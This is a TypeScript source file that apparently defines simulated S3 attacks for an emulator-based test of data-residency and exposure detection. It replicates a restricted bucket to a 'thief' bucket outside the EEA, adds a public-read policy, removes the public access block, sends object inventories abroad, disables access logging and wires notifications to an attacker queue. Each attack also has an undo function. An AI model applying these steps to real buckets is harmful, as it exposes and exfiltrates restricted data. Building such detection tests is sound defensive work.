/** Ways by which objects, or lists of them, leave buckets. */
import {
  CreateBucketCommand,
  DeleteBucketCommand,
  DeleteBucketInventoryConfigurationCommand,
  DeleteBucketWebsiteCommand,
  DeletePublicAccessBlockCommand,
  GetBucketLoggingCommand,
  GetBucketPolicyCommand,
  GetBucketReplicationCommand,
  GetPublicAccessBlockCommand,
  PutBucketAccelerateConfigurationCommand,
  PutBucketInventoryConfigurationCommand,
  PutBucketLoggingCommand,
  PutBucketNotificationConfigurationCommand,
  PutBucketPolicyCommand,
  PutBucketReplicationCommand,
  PutBucketVersioningCommand,
  PutBucketWebsiteCommand,
  PutPublicAccessBlockCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import type { NotificationConfiguration } from '@aws-sdk/client-s3';
import { CreateQueueCommand, DeleteQueueCommand, SQSClient } from '@aws-sdk/client-sqs';
import type { Attack, Field } from '../attack';
import { claim, onMedia } from './media-bucket';

const thief = ({ account }: Field): string => `thief-${account}`;

/** A bucket abroad, for what is to be sent there. */
async function bucketAbroad(field: Field): Promise<() => Promise<unknown>> {
  const client = new S3Client(await field.emulator.client(field.account, field.abroad));
  const Bucket = thief(field);
  await client.send(new CreateBucketCommand({ Bucket }));
  await client.send(new PutBucketVersioningCommand({ Bucket, VersioningConfiguration: { Status: 'Enabled' } }));
  return () => client.send(new DeleteBucketCommand({ Bucket }));
}

const ABROAD = /^unexpected AWS::S3::Bucket .*thief-/u;

export const BUCKET_ATTACKS: readonly Attack[] = [
  {
    slug: 'bucket-abroad',
    what: 'create a bucket in a Region outside the EEA',
    action: 's3:CreateBucket',
    at: 'abroad',
    eventSource: 's3.amazonaws.com',
    eventName: 'CreateBucket',
    channels: [],
    names: [ABROAD],
    open: bucketAbroad,
  },
  onMedia(
    {
      slug: 'bucket-replication',
      what: 'replicate a restricted bucket to a bucket abroad',
      action: 's3:PutReplicationConfiguration',
      eventName: 'PutBucketReplication',
      channels: ['s3-replication-bucket'],
      names: [claim('replication'), ABROAD],
    },
    async (client, Bucket, field) => {
      const away = await bucketAbroad(field);
      const before = await client.send(new GetBucketReplicationCommand({ Bucket }));
      const ReplicationConfiguration = before.ReplicationConfiguration!;
      const put = (bucket?: string) =>
        client.send(
          new PutBucketReplicationCommand({
            Bucket,
            ReplicationConfiguration: {
              ...ReplicationConfiguration,
              Rules: ReplicationConfiguration.Rules!.map((rule) =>
                bucket === undefined ? rule : { ...rule, Destination: { Bucket: bucket } },
              ),
            },
          }),
        );
      await put(`arn:aws:s3:::${thief(field)}`);
      return async () => {
        await put();
        await away();
      };
    },
  ),
  onMedia(
    {
      slug: 'bucket-policy',
      what: 'let everybody read a restricted bucket by its policy',
      action: 's3:PutBucketPolicy',
      eventName: 'PutBucketPolicy',
      channels: ['s3-bucket-policy'],
      names: [claim('policy')],
    },
    async (client, Bucket) => {
      const { Policy } = await client.send(new GetBucketPolicyCommand({ Bucket }));
      const open = JSON.parse(Policy!) as { Statement: object[] };
      open.Statement.push({
        Effect: 'Allow',
        Principal: '*',
        Action: 's3:GetObject',
        Resource: `arn:aws:s3:::${Bucket}/*`,
      });
      await client.send(new PutBucketPolicyCommand({ Bucket, Policy: JSON.stringify(open) }));
      return () => client.send(new PutBucketPolicyCommand({ Bucket, Policy: Policy! }));
    },
  ),
  onMedia(
    {
      slug: 'bucket-public-access',
      what: 'take the public access block off a restricted bucket',
      action: 's3:PutBucketPublicAccessBlock',
      eventName: 'DeleteBucketPublicAccessBlock',
      channels: ['s3-public-access-block'],
      names: [claim('public-access-block')],
    },
    async (client, Bucket) => {
      const { PublicAccessBlockConfiguration } = await client.send(new GetPublicAccessBlockCommand({ Bucket }));
      await client.send(new DeletePublicAccessBlockCommand({ Bucket }));
      return () => client.send(new PutPublicAccessBlockCommand({ Bucket, PublicAccessBlockConfiguration }));
    },
  ),
  onMedia(
    {
      slug: 'bucket-inventory',
      what: 'send daily lists of the objects to a bucket abroad',
      action: 's3:PutInventoryConfiguration',
      eventName: 'PutBucketInventoryConfiguration',
      channels: ['s3-inventory-bucket'],
      names: [claim('inventory'), ABROAD],
    },
    async (client, Bucket, field) => {
      const away = await bucketAbroad(field);
      await client.send(
        new PutBucketInventoryConfigurationCommand({
          Bucket,
          Id: 'daily',
          InventoryConfiguration: {
            Id: 'daily',
            IsEnabled: true,
            IncludedObjectVersions: 'All',
            Schedule: { Frequency: 'Daily' },
            Destination: { S3BucketDestination: { Bucket: `arn:aws:s3:::${thief(field)}`, Format: 'CSV' } },
          },
        }),
      );
      return async () => {
        await client.send(new DeleteBucketInventoryConfigurationCommand({ Bucket, Id: 'daily' }));
        await away();
      };
    },
  ),
  onMedia(
    {
      slug: 'bucket-logging',
      what: 'write access logs into another bucket',
      action: 's3:PutBucketLogging',
      eventName: 'PutBucketLogging',
      channels: ['s3-access-log-bucket'],
      names: [claim('logging')],
    },
    async (client, Bucket) => {
      const { LoggingEnabled } = await client.send(new GetBucketLoggingCommand({ Bucket }));
      const put = (to: typeof LoggingEnabled) =>
        client.send(new PutBucketLoggingCommand({ Bucket, BucketLoggingStatus: to ? { LoggingEnabled: to } : {} }));
      await put(undefined);
      return () => put(LoggingEnabled);
    },
  ),
  onMedia(
    {
      slug: 'bucket-notification',
      what: 'tell a queue of every object',
      action: 's3:PutBucketNotification',
      eventName: 'PutBucketNotification',
      channels: ['s3-notification-target'],
      names: [claim('notifications'), /^unexpected AWS::SQS::Queue /u],
    },
    async (client, Bucket, field) => {
      const sqs = new SQSClient(await field.emulator.client(field.account, field.region));
      const { QueueUrl } = await sqs.send(new CreateQueueCommand({ QueueName: 'thief-hears' }));
      const put = (NotificationConfiguration: NotificationConfiguration) =>
        client.send(new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration }));
      const QueueArn = `arn:aws:sqs:${field.region}:${field.account}:thief-hears`;
      await put({ QueueConfigurations: [{ QueueArn, Events: ['s3:ObjectCreated:*'] }] });
      return async () => {
        await put({});
        await sqs.send(new DeleteQueueCommand({ QueueUrl }));
      };
    },
  ),
  onMedia(
    {
      slug: 'bucket-website',
      what: 'make a web site of a restricted bucket',
      action: 's3:PutBucketWebsite',
      eventName: 'PutBucketWebsite',
      channels: ['s3-website'],
      names: [claim('website')],
    },
    async (client, Bucket) => {
      const WebsiteConfiguration = { IndexDocument: { Suffix: 'index.html' } };
      await client.send(new PutBucketWebsiteCommand({ Bucket, WebsiteConfiguration }));
      return () => client.send(new DeleteBucketWebsiteCommand({ Bucket }));
    },
  ),
  onMedia(
    {
      slug: 'bucket-acceleration',
      what: 'take objects through edge locations all over the world',
      action: 's3:PutAccelerateConfiguration',
      eventName: 'PutBucketAccelerateConfiguration',
      channels: ['s3-transfer-acceleration'],
      names: [claim('acceleration')],
    },
    async (client, Bucket) => {
      const put = (Status: 'Enabled' | 'Suspended') =>
        client.send(new PutBucketAccelerateConfigurationCommand({ Bucket, AccelerateConfiguration: { Status } }));
      await put('Enabled');
      return () => put('Suspended');
    },
  ),
];
